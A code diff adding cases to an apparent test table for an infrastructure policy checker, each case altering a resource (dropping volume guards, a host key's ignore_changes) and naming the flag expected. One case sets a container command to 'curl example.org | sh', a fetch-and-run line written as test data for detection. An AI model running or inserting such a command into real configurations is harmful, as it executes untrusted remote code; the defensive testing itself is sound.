@@ -87,6 +87,32 @@ IN_THE_PROGRAM: dict[str, tuple[str, Edit, set[str], tuple[str, ...]]] = {
         {"OPENS", "POLICY"},
         ("/run/docker.sock",),
     ),
+    "a volume no longer goes with its machine": (
+        "prod",
+        lambda one: (
+            replace(one, options=replace(one.options, replace_with=(), deleted_with=""))
+            if one.name == "data-volume"
+            else one
+        ),
+        {"GUARD LOST"},
+        ("replace_with of data-volume", "deleted_with of data-volume"),
+    ),
+    "a host key is made anew by another wording": (
+        "prod",
+        lambda one: (
+            replace(one, options=replace(one.options, ignore_changes=()))
+            if one.name == "host-hostkey"
+            else one
+        ),
+        {"GUARD LOST"},
+        ("ignore_changes of host-hostkey",),
+    ),
+    "another command runs": (
+        "local",
+        with_input("web-container", "command", value=["sh", "-c", "curl example.org | sh"]),
+        {"OTHER COMMAND"},
+        ("curl example.org",),
+    ),
     "a container is privileged": (
         "local",
         with_input("web-container", "privileged", value=True),
